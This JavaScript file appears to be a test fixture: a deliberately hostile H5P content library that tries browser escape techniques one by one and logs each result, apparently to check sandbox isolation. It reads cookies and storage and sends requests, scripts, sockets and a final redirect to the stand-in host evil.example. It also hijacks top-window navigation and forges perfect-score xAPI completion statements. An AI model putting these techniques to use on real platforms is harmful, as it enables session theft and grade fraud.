/* A library that means harm: it tries what a page could be robbed of, and says to the console what came of each try.
   "tried <name>: <what it got, or refused>", and "tried all" at the end. It does not know whether it is in a box. */
H5P.Evil = function (params, id) {
  H5P.EventDispatcher.call(this);
  const say = (name, what) => console.log(`tried ${name}: ${what}`);
  const statement = (iri) => ({
    actor: { name: "Nobody", mbox: "mailto:nobody@example.org" },
    verb: { id: "http://adlnet.gov/expapi/verbs/completed" },
    object: { id: iri },
    result: { score: { min: 0, max: 1, raw: 1, scaled: 1 }, completion: true, success: true },
  });
  const later = (start) => new Promise((resolve, reject) => {
    setTimeout(() => reject(new Error("no answer")), 3000);
    start(resolve, reject);
  });
  const click = (link) => {
    /* Past whoever listens for clicks on links. */
    link.addEventListener("click", (event) => event.stopPropagation());
    document.body.append(link);
    link.click();
    return "clicked";
  };
  const link = (target) => Object.assign(document.createElement("a"), { href: "/en/account/login/?stolen", target });
  const form = (target) => {
    const made = Object.assign(document.createElement("form"), { method: "post", action: "/en/settings/?stolen", target });
    document.body.append(made);
    made.submit();
    return "sent";
  };

  const tries = {
    cookie: () => document.cookie,
    "the page's words": () => parent.document.title,
    "the page's address": () => parent.location.href,
    "a word in localStorage": () => localStorage.getItem("secret"),
    "a word in sessionStorage": () => sessionStorage.getItem("secret"),
    "storage of a frame within": () => {
      const inner = document.createElement("iframe");
      document.body.append(inner);
      return inner.contentWindow.localStorage.getItem("secret");
    },
    indexedDB: () => later((resolve, reject) => {
      const opened = indexedDB.open("secret");
      opened.onsuccess = () => resolve("open");
      opened.onerror = () => reject(opened.error);
    }),
    caches: () => caches.keys().then((keys) => `${keys.length} keys`),
    "fetch with the session": () => fetch("/en/settings/?stolen", { credentials: "include" }).then((answer) => answer.status),
    "fetch without reading": () => fetch("/en/settings/?stolen", { credentials: "include", mode: "no-cors" }).then(() => "asked"),
    "fetch from elsewhere": () => fetch("https://evil.example/?stolen").then(() => "asked"),
    "XHR to the statements": () => later((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open("POST", `${H5PIntegration.contents[`cid-${id}`].url}statements/`);
      request.withCredentials = true;
      request.onload = () => resolve(request.status);
      request.onerror = () => reject(new Error("failed"));
      request.send(JSON.stringify({ id: H5P.createUUID(), statement: statement(H5PIntegration.contents[`cid-${id}`].url) }));
    }),
    "a picture from elsewhere": () => later((resolve, reject) => {
      const picture = new Image();
      picture.onload = () => resolve("loaded");
      picture.onerror = () => reject(new Error("failed"));
      picture.src = "https://evil.example/?stolen";
    }),
    "a script from elsewhere": () => later((resolve, reject) => {
      const script = document.createElement("script");
      script.onload = () => resolve("loaded");
      script.onerror = () => reject(new Error("failed"));
      script.src = "https://evil.example/?stolen";
      document.head.append(script);
    }),
    "a socket": () => later((resolve, reject) => {
      const socket = new WebSocket("wss://evil.example/?stolen");
      socket.onopen = () => resolve("open");
      socket.onerror = () => reject(new Error("failed"));
    }),
    "a beacon": () => { navigator.sendBeacon("/en/settings/?stolen", "x"); return "sent"; },
    "the top window's address": () => { top.location.href = "/en/account/login/?stolen"; return "set"; },
    "a form to the top": () => form("_top"),
    "a form here": () => form("_self"),
    "a link to the top": () => click(link("_top")),
    "a link to a new window": () => click(link("_blank")),
    "window.open": () => String(window.open("/en/account/login/?stolen")),
    "a service worker": () => navigator.serviceWorker.register("/h5p/l/worker.js").then(() => "registered"),
    "document.domain": () => { document.domain = "127.0.0.1"; return "set"; },
    "another address in the history": () => { history.replaceState({}, "", "/en/settings/"); return "set"; },
    alert: () => String(alert("stolen")),
    confirm: () => String(confirm("stolen")),
    "a message without the word": () => {
      const said = { academy: "h5p", type: "xapi", nonce: "guessed", statement: statement(H5PIntegration.contents[`cid-${id}`].url) };
      parent.postMessage(said, "*");
      return "sent";
    },
    "a step back in the history": () => { history.back(); return "asked"; },
  };

  this.attach = async ($container) => {
    $container.text("Means harm");
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        say(name, await attempt());
      } catch (error) {
        say(name, "refused");
      }
    }
    say("its own address", "set");
    console.log("tried all");
    /* After this it is no more. */
    location.href = "https://evil.example/?stolen";
  };
};
